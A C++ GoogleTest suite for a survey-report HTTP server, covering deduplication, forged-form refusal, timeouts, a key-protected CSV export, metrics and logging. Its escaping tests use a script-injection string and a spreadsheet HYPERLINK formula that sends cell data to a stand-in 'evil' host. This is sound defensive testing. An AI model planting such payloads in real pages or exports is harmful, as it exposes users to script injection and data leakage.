#include "server/http/admission.hpp"
#include "server/views/csv_export.hpp"
#include "tests/server/report_samples.hpp"
#include "tests/server/server_fixture.hpp"

#include <atomic>
#include <future>
#include <cstdio>
#include <cstdlib>
#include <cstring>

namespace {

using namespace std::chrono_literals;

const std::string kOperatorKey = "Zq3-uN8_wR5tY1pL6mK0vB9cX2jH4gF7";

// A request for the export with the operator key.
std::string Export(unsigned short port, const std::string& target)
{
    return Get(port, target, "Authorization: Bearer " + kOperatorKey + "\r\n");
}

// A MAC no other test (or earlier run on the same PostgreSQL database) uses.
std::string UniqueMac()
{
    static std::mt19937_64 random{std::random_device{}()};
    char mac[18];
    const auto n = random();
    std::snprintf(mac, sizeof mac, "%02X-%02X-%02X-%02X-%02X-%02X", unsigned(n & 0xFF),
                  unsigned(n >> 8 & 0xFF), unsigned(n >> 16 & 0xFF), unsigned(n >> 24 & 0xFF),
                  unsigned(n >> 32 & 0xFF), unsigned(n >> 40 & 0xFF));
    return mac;
}

std::vector<StoredReport> StoredWithMac(ReportRecorder& recorder, const std::string& mac)
{
    std::promise<std::vector<StoredReport>> done;
    recorder.Submit([&](ReportStore& store) {
        std::vector<StoredReport> found;
        store.ForEachReport(0, [&](const StoredReport& report) {
            if (At(report.values, ReportField::Mac) == mac)
                found.push_back(report);
        });
        done.set_value(found);
    });
    return done.get_future().get();
}

int RetCode(const std::string& response)
{
    const auto at = response.find("\"ret_code\":");
    return at == std::string::npos ? 999 : std::atoi(response.c_str() + at + 11);
}

// The level and the rank of a reply's message (as \u escapes): its first sentence and its part
// from "超过了" or "是第一" on. The step up between them names the survey's most reported part,
// which the server reads anew from time to time, so two answers may differ there. Empty when the
// message has no level or no rank.
std::string LevelAndRank(const std::string& response)
{
    const std::string body = BodyOf(response);
    const std::size_t level = body.find("\\u3002");
    std::size_t rank = body.rfind("\\u8d85\\u8fc7\\u4e86");
    if (rank == std::string::npos)
        rank = body.rfind("\\u662f\\u7b2c\\u4e00");
    if (level == std::string::npos || rank == std::string::npos)
        return "";
    return body.substr(0, level) + " ... " + body.substr(rank);
}

class ServerTest : public ::testing::TestWithParam<std::string> {
  protected:
    void SetUp() override
    {
        if (GetParam() == "sqlite") {
            mDatabase = FreshSqliteFolder();
        } else {
            const char* url = std::getenv("VXM_TEST_POSTGRES_URL");
            if (!url)
                GTEST_SKIP() << "VXM_TEST_POSTGRES_URL is not set";
            mDatabase = url;
        }
        mOptions.operatorKey = kOperatorKey;
        mOptions.requestDeadline = 500ms;
        mOptions.maxConnections = 96;
        mOptions.maxPerAddress = 96; // every client here is 127.0.0.1
        mLog = std::tmpfile();
        mOptions.requestLogFd = fileno(mLog);
        mServer = std::make_unique<RunningServer>(mDatabase, mOptions);
        mMac = UniqueMac();
    }
    void TearDown() override
    {
        mServer.reset();
        if (mLog)
            std::fclose(mLog);
        if (GetParam() == "sqlite")
            std::filesystem::remove_all(mDatabase);
    }
    std::string Post(const std::string& body)
    {
        return Exchange(mServer->Port(), PostRequest(body, mServer->Port())).bytes;
    }

    // The request log's lines so far.
    std::vector<std::string> LogLines()
    {
        std::vector<std::string> lines;
        std::rewind(mLog);
        char line[4096];
        while (std::fgets(line, sizeof line, mLog))
            lines.emplace_back(line, std::strcspn(line, "\n"));
        return lines;
    }

    std::string mDatabase;
    std::FILE* mLog = nullptr;
    ServerOptions mOptions;
    std::unique_ptr<RunningServer> mServer;
    std::string mMac;
};

TEST_P(ServerTest, RecordsOnceThenRefusesTheRepeat)
{
    const std::string first = Post(SampleForm("123456", mMac));
    EXPECT_EQ(first.rfind("HTTP/1.0 200", 0), 0u) << first;
    EXPECT_EQ(RetCode(first), 0) << first;
    EXPECT_NE(first.find("\\u7684"), std::string::npos) << "message in \\u escapes: " << first;
    // The same report again is a retry, answered as the first: recorded, with its level and rank;
    // another of the account and machine is a repeat.
    const std::string retry = Post(SampleForm("123456", mMac));
    EXPECT_EQ(RetCode(retry), 0) << retry;
    EXPECT_FALSE(LevelAndRank(first).empty()) << first;
    EXPECT_EQ(LevelAndRank(retry), LevelAndRank(first));
    EXPECT_EQ(RetCode(Post(SampleForm("123456", mMac, "840"))), -1);
    // Another account on the same machine, and the same account elsewhere, are new reports.
    EXPECT_EQ(RetCode(Post(SampleForm("654321", mMac))), 0);

    const auto stored = StoredWithMac(mServer->Recorder(), mMac);
    ASSERT_EQ(stored.size(), 2u);
    EXPECT_EQ(stored[0].values, SampleValues("123456", mMac));
    EXPECT_EQ(stored[0].peer, "127.0.0.1");
    EXPECT_NEAR(static_cast<double>(stored[0].receivedAt), static_cast<double>(std::time(nullptr)),
                60);
}

TEST_P(ServerTest, RefusalsStoreNothing)
{
    ReportValues forged = SampleValues("123456", mMac);
    forged[static_cast<std::size_t>(ReportField::Gain)] = "850";
    const std::string mismatch = Post(EncodeReportForm(forged));
    EXPECT_EQ(RetCode(mismatch), -2) << mismatch;
    const std::string form = SampleForm("123456", mMac);
    EXPECT_EQ(RetCode(Post(form + "&x=1")), -3);
    EXPECT_EQ(RetCode(Post(form.substr(form.find('&') + 1))), -3);
    EXPECT_EQ(RetCode(Post(form.substr(0, form.size() - 1) + "%")), -3);
    EXPECT_TRUE(StoredWithMac(mServer->Recorder(), mMac).empty());
}

TEST_P(ServerTest, RefusesOtherRequests)
{
    const unsigned short port = mServer->Port();
    EXPECT_EQ(Get(port, "/nothing").rfind("HTTP/1.0 404", 0), 0u);
    const std::string wrongMethod = Get(port, "/vorn/a20140220checkmachine/postInfo.php");
    EXPECT_EQ(wrongMethod.rfind("HTTP/1.0 405", 0), 0u) << wrongMethod;
    EXPECT_NE(wrongMethod.find("Allow: POST"), std::string::npos);

    const std::string big(64 * 1024 + 1, 'a');
    const Received tooLarge = Exchange(port, PostRequest(big, port));
    EXPECT_EQ(tooLarge.bytes.rfind("HTTP/1.1 413", 0), 0u) << tooLarge.bytes;
    EXPECT_TRUE(tooLarge.closed);

    static constexpr char kGarbage[] = "\x16\x03\x01\x00\xff garbage\r\n\r\n";
    const Received garbage = Exchange(port, std::string(kGarbage, sizeof kGarbage - 1));
    EXPECT_EQ(garbage.bytes.rfind("HTTP/1.1 400", 0), 0u) << garbage.bytes;
    EXPECT_TRUE(garbage.closed);
}

TEST_P(ServerTest, CutsOffSlowAndHalfSentRequests)
{
    const unsigned short port = mServer->Port();
    const std::string request = PostRequest(SampleForm("123456", mMac), port);
    const auto start = std::chrono::steady_clock::now();
    // Headers and half the body, then nothing: the deadline (500 ms here) closes it.
    const Received half = Exchange(port, request.substr(0, request.size() - 40), 3s);
    EXPECT_TRUE(half.closed);
    EXPECT_EQ(half.bytes, "");
    EXPECT_LT(std::chrono::steady_clock::now() - start, 2s);
    EXPECT_TRUE(StoredWithMac(mServer->Recorder(), mMac).empty());

    // The server still answers afterwards.
    EXPECT_EQ(RetCode(Post(SampleForm("123456", mMac))), 0);
}

// A full server closes the connection that has waited longest for a request to serve a newcomer.
TEST_P(ServerTest, AFullServerMakesRoomForANewcomer)
{
    namespace asio = boost::asio;
    // Idle long enough to be evicted, not yet closed at their deadline.
    mOptions.requestDeadline = 3s;
    mServer = std::make_unique<RunningServer>(mDatabase, mOptions);
    asio::io_context io;
    std::vector<asio::ip::tcp::socket> idle;
    for (std::size_t i = 0; i < mOptions.maxConnections; ++i) {
        idle.emplace_back(io);
        idle.back().connect({asio::ip::make_address("127.0.0.1"), mServer->Port()});
    }
    std::this_thread::sleep_for(kFirstRequestGrace + 100ms);
    const Received served = Exchange(mServer->Port(), "GET / HTTP/1.0\r\n\r\n", 2s);
    EXPECT_EQ(served.bytes.rfind("HTTP/1.0 200", 0), 0u) << served.bytes.substr(0, 80);
    char byte;
    boost::system::error_code closed;
    idle.front().read_some(asio::buffer(&byte, 1), closed);
    EXPECT_EQ(closed, asio::error::eof) << "the oldest idle connection was closed";
    idle.clear();
    std::this_thread::sleep_for(100ms);
    EXPECT_EQ(Get(mServer->Port(), "/").rfind("HTTP/1.0 200", 0), 0u);
}

TEST_P(ServerTest, SimultaneousReportsOfOneAccountAndMachineAreRecordedOnce)
{
    std::atomic<int> recorded{0}, repeated{0};
    std::vector<std::thread> clients;
    for (int i = 0; i < 16; ++i) {
        clients.emplace_back([&, i] {
            const int code = RetCode(Post(SampleForm("777777", mMac, std::to_string(800 + i))));
            if (code == 0)
                ++recorded;
            if (code == -1)
                ++repeated;
        });
    }
    for (std::thread& client : clients)
        client.join();
    EXPECT_EQ(recorded, 1);
    EXPECT_EQ(repeated, 15);
    EXPECT_EQ(StoredWithMac(mServer->Recorder(), mMac).size(), 1u);
}

TEST_P(ServerTest, ManyClientsOnFourThreadsStoreExactlyWhatWasAnsweredRecorded)
{
    // 64 clients, each posting distinct reports and some repeats on fresh connections.
    std::atomic<int> recorded{0}, repeated{0}, other{0};
    std::vector<std::thread> clients;
    for (int c = 0; c < 64; ++c) {
        clients.emplace_back([&, c] {
            for (int i = 0; i < 4; ++i) {
                // The fourth another report of the first's account: a repeat.
                const int code = RetCode(Post(SampleForm(std::to_string(100000 + c * 10 + i % 3),
                                                         mMac, i == 3 ? "840" : "841")));
                (code == 0 ? recorded : code == -1 ? repeated : other)++;
            }
        });
    }
    for (std::thread& client : clients)
        client.join();
    EXPECT_EQ(recorded, 64 * 3);
    EXPECT_EQ(repeated, 64);
    EXPECT_EQ(other, 0);
    EXPECT_EQ(StoredWithMac(mServer->Recorder(), mMac).size(), 64u * 3);
}

TEST_P(ServerTest, PageShowsAggregatesAndNoPrivateField)
{
    ReportValues values = SampleValues("918273", mMac);
    values[static_cast<std::size_t>(ReportField::Cpu)] = "<script>alert(1)</script> CPU";
    values[static_cast<std::size_t>(ReportField::HostName)] = "secret-user@SECRET-PC";
    values[static_cast<std::size_t>(ReportField::Token)] = ComputeReportToken(values);
    ASSERT_EQ(RetCode(Post(EncodeReportForm(values))), 0);

    const std::string page = Get(mServer->Port(), "/");
    EXPECT_EQ(page.rfind("HTTP/1.0 200", 0), 0u);
    EXPECT_NE(page.find("Content-Type: text/html; charset=utf-8"), std::string::npos);
    EXPECT_NE(page.find("&lt;script&gt;alert(1)&lt;/script&gt; CPU"), std::string::npos);
    EXPECT_EQ(page.find("<script"), std::string::npos);
    // Systems by name, memory and video memory in the bands sold; the export keeps the texts.
    EXPECT_NE(page.find(">Windows 7<"), std::string::npos);
    EXPECT_EQ(page.find("Windows 6.1, SP 1.0"), std::string::npos);
    EXPECT_NE(page.find(">8 GB<"), std::string::npos);
    EXPECT_NE(page.find(">4 GB<"), std::string::npos);
    EXPECT_EQ(page.find("4095.00 MB"), std::string::npos);
    for (const std::string& secret : {std::string("918273"), std::string("SECRET-PC"), mMac})
        EXPECT_EQ(page.find(secret), std::string::npos) << secret;
    EXPECT_EQ(page.find("127.0.0.1"), std::string::npos);
}

TEST_P(ServerTest, ExportNeedsTheOperatorKey)
{
    ASSERT_EQ(RetCode(Post(SampleForm("123456", mMac))), 0);
    const unsigned short port = mServer->Port();
    EXPECT_EQ(Get(port, "/export.csv").rfind("HTTP/1.0 401", 0), 0u);
    // The scheme in any case.
    const std::string byHeader =
        Get(port, "/export.csv", "Authorization: bearer " + kOperatorKey + "\r\n");
    const std::string csv = BodyOf(byHeader);
    EXPECT_NE(byHeader.find("Content-Type: text/csv; charset=utf-8"), std::string::npos);
    EXPECT_EQ(csv.rfind("\xEF\xBB\xBFid,received,peer,u,mc,cpu,", 0), 0u);
    // The GBK host name arrives as UTF-8; the processor name with its comma is quoted.
    const auto line = csv.find("," + mMac + ",");
    ASSERT_NE(line, std::string::npos) << csv;
    EXPECT_NE(csv.find("张三@PC-01", line), std::string::npos);
    EXPECT_NE(csv.find(",127.0.0.1,123456," + mMac + ",Intel(R) Core(TM) i7 CPU,"),
              std::string::npos);
    EXPECT_NE(csv.find("\"Windows 6.1, SP 1.0\""), std::string::npos);
}

TEST_P(ServerTest, DevicesTheTablesDoNotRateAreListedOnThePageAndForTheOperator)
{
    // The sample's processor is no table entry; its adapter is.
    ASSERT_EQ(RetCode(Post(SampleForm("123456", mMac))), 0);
    const unsigned short port = mServer->Port();
    EXPECT_EQ(Get(port, "/unknown.csv").rfind("HTTP/1.0 401", 0), 0u);
    const std::string reply = Export(port, "/unknown.csv");
    EXPECT_NE(reply.find("Content-Type: text/csv; charset=utf-8"), std::string::npos);
    const std::string csv = BodyOf(reply);
    EXPECT_EQ(csv.rfind("\xEF\xBB\xBF"
                        "device,name,reports\r\n",
                        0),
              0u)
        << csv;
    EXPECT_NE(csv.find("\r\ncpu,Intel(R) Core(TM) i7 CPU,"), std::string::npos) << csv;
    EXPECT_EQ(csv.find("GTX 690"), std::string::npos) << csv;
    const std::string page = BodyOf(Get(port, "/"));
    const auto section = page.find("评分表中没有的设备");
    ASSERT_NE(section, std::string::npos);
    EXPECT_NE(page.find("Intel(R) Core(TM) i7 CPU", section), std::string::npos);
    EXPECT_EQ(page.find("NVIDIA GeForce GTX 690", section), std::string::npos);

    // A name with a byte GBK does not decode: the stored bytes in the raw form, \xNN in the
    // default one (as the export writes it), so two such names never look alike.
    ReportValues odd = SampleValues("123457", mMac);
    odd[static_cast<std::size_t>(ReportField::Cpu)] = "\xD5\xC5 CPU \xFF";
    odd[static_cast<std::size_t>(ReportField::Token)] = ComputeReportToken(odd);
    ASSERT_EQ(RetCode(Post(EncodeReportForm(odd))), 0);
    EXPECT_NE(BodyOf(Export(port, "/unknown.csv?raw=1")).find("\r\ncpu,\xD5\xC5 CPU \xFF,"),
              std::string::npos);
    EXPECT_NE(BodyOf(Export(port, "/unknown.csv")).find("\r\ncpu,张 CPU \\xFF,"),
              std::string::npos);
}

// The first cell (the id) of the export line holding `text`, or -1.
std::int64_t IdOfLineWith(const std::string& csv, const std::string& text)
{
    const auto at = csv.find(text);
    if (at == std::string::npos)
        return -1;
    const auto start = csv.rfind("\r\n", at);
    return std::atoll(csv.c_str() + (start == std::string::npos ? 0 : start + 2));
}

TEST_P(ServerTest, ExportIsSafeForSpreadsheetsRawForProgramsAndIncremental)
{
    const std::string hostile = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")";
    ReportValues values = SampleValues("246810", mMac);
    values[static_cast<std::size_t>(ReportField::Cpu)] = hostile;
    // A Western code page's name, with a byte GBK does not hold.
    values[static_cast<std::size_t>(ReportField::HostName)] = "Jos\xE9@PC-01\xFF";
    values[static_cast<std::size_t>(ReportField::Token)] = ComputeReportToken(values);
    ASSERT_EQ(RetCode(Post(EncodeReportForm(values))), 0);
    ASSERT_EQ(RetCode(Post(SampleForm("135791", mMac))), 0);
    const unsigned short port = mServer->Port();
    const std::string safe = BodyOf(Export(port, "/export.csv"));
    const std::string raw = BodyOf(Export(port, "/export.csv?raw=1"));
    EXPECT_NE(safe.find(",\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\","),
              std::string::npos);
    EXPECT_EQ(raw.rfind("id,received,peer,", 0), 0u);
    EXPECT_NE(raw.find(",\"=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\","), std::string::npos);
    EXPECT_NE(safe.find(",Jos锧PC-01\\xFF,"), std::string::npos);
    EXPECT_NE(raw.find(",Jos\xE9@PC-01\xFF,"), std::string::npos);

    // after=<id> gives only the later rows: a nightly pull takes each report once.
    const std::int64_t first = IdOfLineWith(raw, ",246810," + mMac + ",");
    const std::int64_t second = IdOfLineWith(raw, ",135791," + mMac + ",");
    ASSERT_GT(first, 0) << raw;
    ASSERT_GT(second, first);
    const std::string later =
        BodyOf(Export(port, "/export.csv?raw=1&after=" + std::to_string(first)));
    EXPECT_EQ(later.find(",246810,"), std::string::npos);
    EXPECT_EQ(IdOfLineWith(later, ",135791," + mMac + ","), second);
    const std::string none =
        BodyOf(Export(port, "/export.csv?raw=1&after=" + std::to_string(second)));
    EXPECT_EQ(none.find(mMac), std::string::npos);
    EXPECT_EQ(Export(port, "/export.csv?after=x").rfind("HTTP/1.0 400", 0), 0u);
}

TEST_P(ServerTest, HealthMetricsAndOneLogLinePerRequest)
{
    const unsigned short port = mServer->Port();
    const std::string health = Get(port, "/healthz");
    EXPECT_EQ(health.rfind("HTTP/1.0 200", 0), 0u) << health;
    EXPECT_EQ(BodyOf(health), "ok\n");

    ReportValues forged = SampleValues("123456", mMac);
    forged[static_cast<std::size_t>(ReportField::Gain)] = "850";
    EXPECT_EQ(RetCode(Post(SampleForm("123456", mMac))), 0);
    EXPECT_EQ(RetCode(Post(SampleForm("123456", mMac, "840"))), -1);
    EXPECT_EQ(RetCode(Post(EncodeReportForm(forged))), -2);
    EXPECT_EQ(RetCode(Post("u=1")), -3);
    EXPECT_EQ(Export(port, "/export.csv?raw=1").rfind("HTTP/1.0 200", 0), 0u);
    EXPECT_EQ(Get(port, "/nothing").rfind("HTTP/1.0 404", 0), 0u);

    const std::string metrics = Get(port, "/metrics");
    EXPECT_NE(metrics.find("Content-Type: text/plain; version=0.0.4"), std::string::npos);
    for (const char* line : {"vxm_reports_total{decision=\"recorded\"} 1\n",
                             "vxm_reports_total{decision=\"repeated\"} 1\n",
                             "vxm_reports_total{decision=\"token\"} 1\n",
                             "vxm_reports_total{decision=\"malformed\"} 1\n",
                             "vxm_http_responses_total{code=\"200\"} 6\n",
                             "vxm_http_responses_total{code=\"404\"} 1\n",
                             "vxm_http_responses_total{code=\"500\"} 0\n",
                             "vxm_http_request_duration_seconds_count{route=\"report\"} 4\n",
                             "vxm_http_request_duration_seconds_count{route=\"health\"} 1\n",
                             "vxm_http_request_duration_seconds_count{route=\"other\"} 1\n",
                             "vxm_store_commit_seconds_count 2\n", "vxm_store_failures_total 0\n"})
        EXPECT_NE(metrics.find(line), std::string::npos) << line << metrics;
    // This one at least; closed ones may still be lingering for their clients to close.
    const auto open = metrics.find("\nvxm_open_connections ");
    ASSERT_NE(open, std::string::npos);
    EXPECT_GE(std::atoi(metrics.c_str() + open + 22), 1);

    // The metrics reply is logged once it is sent: wait for its line.
    std::vector<std::string> lines;
    for (int i = 0; i < 100 && lines.size() < 8; ++i, std::this_thread::sleep_for(10ms))
        lines = LogLines();
    const std::string expected[][2] = {
        {"GET path=/healthz status=200 decision=-", ""},
        {"POST path=/vorn/a20140220checkmachine/postInfo.php status=200 decision=recorded", ""},
        {"POST path=/vorn/a20140220checkmachine/postInfo.php status=200 decision=repeated", ""},
        {"POST path=/vorn/a20140220checkmachine/postInfo.php status=200 decision=token", ""},
        {"POST path=/vorn/a20140220checkmachine/postInfo.php status=200 decision=malformed", ""},
        {"GET path=/export.csv status=200 decision=-", ""},
        {"GET path=/nothing status=404 decision=-", ""},
        {"GET path=/metrics status=200 decision=-", ""},
    };
    ASSERT_EQ(lines.size(), std::size(expected));
    for (std::size_t i = 0; i < lines.size(); ++i) {
        EXPECT_EQ(lines[i].rfind("time=", 0), 0u) << lines[i];
        EXPECT_NE(lines[i].find(" peer=127.0.0.1 method=" + expected[i][0] + " bytes="),
                  std::string::npos)
            << lines[i];
        EXPECT_NE(lines[i].find(" us="), std::string::npos) << lines[i];
        // Nothing private: no account, MAC, name, key or query.
        for (const std::string& secret :
             {std::string("123456"), mMac, std::string("PC-01"), kOperatorKey, std::string("?")})
            EXPECT_EQ(lines[i].find(secret), std::string::npos) << secret << " in " << lines[i];
    }
}

// A store that fails every read and write, as a database gone away does.
class DownStore : public ReportStore {
  public:
    std::vector<RecordOutcome> Record(const std::vector<StoredReport>&) override { throw Down(); }
    SurveyFigures Summarize() override { throw Down(); }
    void Ping() override { throw Down(); }
    void ForEachUnknownDevice(const std::function<void(const UnknownDevice&)>&) override
    {
        throw Down();
    }
    void ForEachReport(std::int64_t, const std::function<void(const StoredReport&)>&) override
    {
        throw Down();
    }
    std::optional<std::int64_t> Rerate(const ServerTables&, std::int64_t, std::size_t) override
    {
        throw Down();
    }
    ReportedNames MostReported(std::size_t) override { throw Down(); }
    UnratedCounts Unrated() override { throw Down(); }

  private:
    static std::runtime_error Down() { return std::runtime_error("connection refused"); }
};

TEST(ServerWithoutStore, HealthSaysUnavailableAndEveryFailureIsCounted)
{
    ServerOptions options;
    options.operatorKey = kOperatorKey;
    RunningServer server([] { return std::make_unique<DownStore>(); }, options);
    const unsigned short port = server.Port();
    const std::string health = Get(port, "/healthz");
    EXPECT_EQ(health.rfind("HTTP/1.0 503", 0), 0u) << health;
    EXPECT_EQ(Get(port, "/").rfind("HTTP/1.0 500", 0), 0u);
    EXPECT_EQ(Export(port, "/export.csv").rfind("HTTP/1.0 500", 0), 0u);
    const std::string post = Exchange(port, PostRequest(SampleForm(), port)).bytes;
    EXPECT_EQ(post.rfind("HTTP/1.0 500", 0), 0u) << post;
    const std::string metrics = Get(port, "/metrics");
    // Three reads, the report's second try (its first is a retry, no failure) and the first try
    // at rating the stored reports, which waits before it tries again: five.
    for (const char* line :
         {"vxm_store_failures_total 5\n", "vxm_http_responses_total{code=\"500\"} 3\n",
          "vxm_http_responses_total{code=\"503\"} 1\n",
          "vxm_reports_total{decision=\"recorded\"} 0\n"})
        EXPECT_NE(metrics.find(line), std::string::npos) << line << metrics;
}

TEST_P(ServerTest, RestartLosesNothing)
{
    ASSERT_EQ(RetCode(Post(SampleForm("123456", mMac))), 0);
    mServer = std::make_unique<RunningServer>(mDatabase, mOptions);
    EXPECT_EQ(StoredWithMac(mServer->Recorder(), mMac).size(), 1u);
    EXPECT_EQ(RetCode(Post(SampleForm("123456", mMac, "840"))), -1);
}

TEST_P(ServerTest, TwoServersOnOneDatabaseRecordOnce)
{
    if (GetParam() != "postgres")
        GTEST_SKIP() << "one SQLite file belongs to one server process";
    RunningServer other(mDatabase, mOptions);
    std::atomic<int> recorded{0}, repeated{0};
    std::vector<std::thread> clients;
    for (int i = 0; i < 8; ++i) {
        const unsigned short port = i % 2 ? other.Port() : mServer->Port();
        const std::string body = SampleForm("555555", mMac, std::to_string(800 + i));
        clients.emplace_back([&, port, body] {
            const int code = RetCode(Exchange(port, PostRequest(body, port)).bytes);
            if (code == 0)
                ++recorded;
            if (code == -1)
                ++repeated;
        });
    }
    for (std::thread& client : clients)
        client.join();
    EXPECT_EQ(recorded, 1);
    EXPECT_EQ(repeated, 7);
}

INSTANTIATE_TEST_SUITE_P(Engines, ServerTest, ::testing::Values("sqlite", "postgres"),
                         [](const auto& info) { return info.param; });

} // namespace
